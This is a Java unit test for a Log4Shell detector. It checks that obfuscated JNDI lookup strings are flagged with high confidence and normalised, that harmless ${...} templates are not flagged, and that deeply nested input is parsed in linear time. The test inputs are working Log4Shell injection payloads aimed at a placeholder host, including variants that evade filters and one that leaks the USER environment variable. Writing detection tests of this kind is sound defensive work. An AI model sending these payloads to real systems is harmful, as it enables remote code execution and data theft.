package io.periscope.detection.signature.log4shell;

import static org.assertj.core.api.Assertions.assertThat;

import io.periscope.detection.signature.InputLocation;
import io.periscope.detection.signature.LocationKind;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class Log4ShellDetectorTest {
    private final Log4ShellDetector detector = new Log4ShellDetector();
    private static final InputLocation UA = new InputLocation(LocationKind.HEADER, "User-Agent");

    @ParameterizedTest
    @ValueSource(strings = {"${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}",
            "${${upper:j}${upper:n}${upper:d}${upper:i}:dns://x.example}", "${jnd${upper:\u0131}:ldap://x.example}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example}", "${${date:'j'}ndi:rmi://x.example}",
            "Mozilla/5.0 ${jndi:ldaps://x.example/${env:USER}}", "${JnDi:LdAp://x.example}", "${jndi:ldap://x.example/a"})
    void jndiLookupsAreFoundWhateverTheNestedObfuscation(String v) {
        assertThat(detector.inspect(v, UA)).isPresent();
        assertThat(detector.inspect(v, UA).get().confidence()).isGreaterThanOrEqualTo(0.95);
    }

    @Test
    void theEvidenceIsTheLookupAsLog4jWouldResolveIt() {
        var m = detector.inspect("${${lower:j}${upper:n}di:${lower:L}dap://x.example/a}", UA).orElseThrow();
        assertThat(m.evidence()).isEqualTo("${jndi:ldap://x.example/a}");
        assertThat(m.rule()).isEqualTo("log4shell.obfuscated-jndi");
    }

    @ParameterizedTest
    @ValueSource(strings = {"${name}", "Hello ${user.firstName}", "${env:HOME}/bin", "${upper::-j}ndi:ldap://x", "jndi:ldap://x",
            "$ {jndi:ldap://x}", "price ${7*7}"})
    void lookupsThatBuildNoJndiCallAreNotLog4Shell(String v) {
        assertThat(detector.inspect(v, UA)).isEmpty();
    }

    @Test
    void deepNestingIsReadInLinearTime() {
        String deep = "${".repeat(50_000) + "jndi:ldap://x" + "}".repeat(50_000);
        long start = System.nanoTime();
        detector.inspect(deep, UA);
        assertThat(System.nanoTime() - start).isLessThan(2_000_000_000L);
    }
}
